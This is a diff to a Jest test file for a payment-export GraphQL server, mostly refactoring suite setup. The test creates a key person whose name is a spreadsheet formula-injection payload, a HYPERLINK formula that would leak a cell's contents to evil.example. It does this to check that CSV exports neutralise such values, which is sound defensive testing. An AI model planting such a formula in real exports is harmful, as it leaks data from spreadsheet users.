@@ -4,9 +4,9 @@
 // the CSV are neutralised.
 import { ManualClock } from "../../server/src/clock";
 import { organisationFunder } from "../../server/src/domain/funder";
-import { CompensationWorld, csvRecords, failure, parseCsv, refusedUnchanged, type KeyPerson, type Organisation } from "../support/compensation-fixtures";
+import { CompensationWorld, startCompensationSuite, csvRecords, failure, parseCsv, refusedUnchanged, type KeyPerson, type Organisation } from "../support/compensation-fixtures";
 import { gql, ok, type GraphQLResponse } from "../support/graphql";
-import { startTestServer, type TestServer } from "../support/server";
+import type { TestServer } from "../support/server";
 
 jest.setTimeout(60_000);
 
@@ -17,10 +17,7 @@ const EVIL_NAME = `=HYPERLINK("http://evil.example/?leak="&A1;"Click")`;
 const SET_IBAN = `mutation($k: ID!, $iban: String!) { setPaymentDetails(keyPersonId: $k, iban: $iban) }`;
 const EXPORTS = `{ paymentExports(perPage: 100) { total items { id funder periodFrom periodTo lineCount totalCents } } }`;
 
-let server: TestServer;
-let world: CompensationWorld;
-let orgA: Organisation;
-let orgB: Organisation;
+let server: TestServer, world: CompensationWorld, orgA: Organisation, orgB: Organisation;
 let amina: KeyPerson;
 let evil: KeyPerson;
 let aminaA: string;
@@ -29,9 +26,7 @@ let aminaScheme: string;
 let evilA: string;
 
 beforeAll(async () => {
-  server = await startTestServer({ clock });
-  world = await CompensationWorld.create(server, clock);
-  [orgA, orgB] = await Promise.all([world.organisation("GGD A"), world.organisation("COA B")]);
+  ({ server, world, orgA, orgB } = await startCompensationSuite(clock));
   [amina, evil] = await Promise.all([world.keyPerson({ name: "Amina Yusuf" }), world.keyPerson({ name: EVIL_NAME })]);
   aminaA = await world.assignment(orgA, amina);
   aminaB = await world.assignment(orgB, amina);
